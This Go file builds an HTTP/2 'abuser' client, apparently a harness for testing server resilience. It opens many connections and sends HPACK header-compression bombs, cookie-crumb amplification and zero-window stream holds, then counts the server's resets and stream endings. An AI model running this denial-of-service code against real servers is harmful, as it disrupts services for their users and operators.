package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	frameDataType     = byte(http2.FrameData)
	frameHeadersType  = byte(http2.FrameHeaders)
	frameResetType    = byte(http2.FrameRSTStream)
	frameSettingsType = byte(http2.FrameSettings)
	framePingType     = byte(http2.FramePing)
	frameGoAwayType   = byte(http2.FrameGoAway)
	frameWindowType   = byte(http2.FrameWindowUpdate)
)

func appendFrame(b []byte, kind, flags byte, id uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, id), payload...)
}

// greeting is the client's preface, with the window that its streams begin with.
func greeting(window uint32) []byte {
	setting := binary.BigEndian.AppendUint32([]byte{0, byte(http2.SettingInitialWindowSize)}, window)
	return appendFrame([]byte(http2.ClientPreface), frameSettingsType, 0, 0, setting)
}

// literals are fields that go into no table.
func literals(fields ...[2]string) []byte {
	var b strings.Builder
	e := hpack.NewEncoder(&b)
	for _, f := range fields {
		e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return []byte(b.String())
}

// headOf is a request of literals, and more.
func headOf(more []byte) []byte {
	return append(literals([2]string{":method", "GET"}, [2]string{":scheme", "http"}, [2]string{":path", "/"}, [2]string{":authority", "h"}), more...)
}

// bombWithin is a request that is within everybody's limits, of fields that are put
// into the table by the first stream, and named by all of them.
func bombWithin(id uint32) []byte {
	more := strings.Repeat("\xbe", 15)
	if id == 1 {
		more = "\x40\x01x\x7f\xe9\x06" + strings.Repeat("a", 1000) + more[1:]
	}
	return headOf([]byte(more))
}

const bombCount = 4000

var (
	plainHead = headOf(nil)
	// accept-charset, entry 15 of the static table (RFC 7541 appendix A), has no value.
	bombFields = headOf([]byte(strings.Repeat("\x8f", bombCount)))
)

// bombCrumbs is a request whose cookie comes in crumbs (RFC 9113 8.2.3): one is
// put into the table by the first stream, and named by all of them.
func bombCrumbs(id uint32) []byte {
	if id == 1 {
		return headOf([]byte("\x60\x01a" + strings.Repeat("\xbe", bombCount-1)))
	}
	return headOf([]byte(strings.Repeat("\xbe", bombCount)))
}

func readFrame(c io.Reader) (kind, flags byte, stream uint32, err error) {
	var h [9]byte
	if _, err := io.ReadFull(c, h[:]); err != nil {
		return 0, 0, 0, err
	}
	_, err = io.CopyN(io.Discard, c, int64(h[0])<<16|int64(h[1])<<8|int64(h[2]))
	return h[3], h[4], binary.BigEndian.Uint32(h[5:]), err
}

// tally is what the connections of an abuser have done.
type tally struct {
	streams, ended atomic.Int64
	reset          atomic.Int64 // streams
	lastReset      atomic.Int64 // ns since begin
	begin          time.Time
	done           chan struct{}
}

// start abuses addr until ctx ends.
func (a *abuser) start(ctx context.Context, addr string) *tally {
	t := &tally{begin: time.Now(), done: make(chan struct{})}
	var all sync.WaitGroup
	for range a.conns {
		all.Go(func() {
			for ctx.Err() == nil {
				a.connection(ctx, addr, t)
				select {
				case <-ctx.Done():
				case <-time.After(time.Millisecond):
				}
			}
		})
	}
	go func() { all.Wait(); close(t.done) }()
	return t
}

// listen reads what the server says until that ends, or the abuser has heard enough.
func (a *abuser) listen(c net.Conn, t *tally, heard, over chan struct{}) {
	defer close(over)
	for {
		kind, flags, _, err := readFrame(c)
		if err != nil {
			return
		}
		switch {
		case kind == frameGoAwayType && a.polite:
			return
		case kind == framePingType && flags == 1:
			heard <- struct{}{}
		case kind == frameResetType:
			t.reset.Add(1)
			t.lastReset.Store(int64(time.Since(t.begin)))
		case kind == frameSettingsType && flags == 0:
			c.Write(appendFrame(nil, frameSettingsType, 1, 0, nil))
		}
	}
}

// connection is one, until the server ends it or the time is over.
func (a *abuser) connection(ctx context.Context, addr string, t *tally) {
	c, err := (&net.Dialer{}).DialContext(ctx, "tcp", addr)
	if err != nil {
		return
	}
	defer c.Close()
	gone := context.AfterFunc(ctx, func() { c.Close() })
	defer gone()
	over, heard := make(chan struct{}), make(chan struct{}, 1)
	go a.listen(c, t, heard, over)
	window := uint32(65535)
	if a.wait {
		window = 0
	}
	// read has the server read b, and says whether there is more to be had of it.
	read := func(b []byte) bool {
		if a.polite {
			b = appendFrame(b, framePingType, 0, 0, make([]byte, 8))
		}
		if _, err := c.Write(b); err != nil || !a.polite {
			return err == nil
		}
		select {
		case <-heard:
			return true
		case <-over:
			return false
		}
	}
	b := greeting(window)
	for id, more := uint32(1), true; more; b = b[:0] {
		first := id
		for range a.heads {
			b = a.append(b, id)
			id += 2
		}
		more = read(b)
		t.streams.Add(int64(a.heads))
		if more && a.late != nil {
			for b = b[:0]; first < id; first += 2 {
				b = a.late(b, first)
			}
			more = read(b)
		}
		if more && a.wait {
			<-over
			more = false
		}
	}
	if ctx.Err() == nil {
		t.ended.Add(1)
	}
}
